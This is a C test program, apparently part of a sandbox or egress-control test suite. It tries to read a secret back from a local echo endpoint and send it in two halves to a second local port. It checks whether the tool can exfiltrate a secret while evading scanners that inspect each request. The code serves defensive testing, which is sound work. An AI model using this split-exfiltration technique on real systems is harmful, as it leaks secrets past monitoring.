/*
 * secret_split: send the secret in two halves.
 *
 * No scanner can see a secret sent a few bytes per request; the only
 * defence is that the tool never learns it. So this attack uses only what
 * the tool can read back from the bound host's /echo (no value from the
 * input): if the host redacts responses, there is nothing to split.
 * Proves: together with secret_echo_readback, that the tool cannot get a
 * secret to send at all.
 */
#include <stdio.h>
#include <string.h>

#include "attack.h"

int main(void)
{
	char why[512], url[8192];
	int seen;
	const char *v = secret_readback(&seen, why, sizeof(why));
	const char *b = input_need("port_b");
	size_t half;
	http_result r1, r2;

	if (!v)
		blocked("nothing to split: %s", why);
	half = strlen(v) / 2;
	snprintf(url, sizeof(url), "http://127.0.0.1:%s/echo?part1=%.*s", b, (int)half, v);
	http("GET", url, NULL, NULL, 0, &r1);
	snprintf(url, sizeof(url), "http://127.0.0.1:%s/echo?part2=%s", b, v + half);
	http("GET", url, NULL, NULL, 0, &r2);
	if (r1.status == BA_OK && r2.status == BA_OK)
		escaped("sent the read-back secret to B in two halves (%zu + %zu bytes)", half,
		        strlen(v) - half);
	blocked("split halves refused: %s / %s", ba_status_name(r1.status),
	        ba_status_name(r2.status));
}
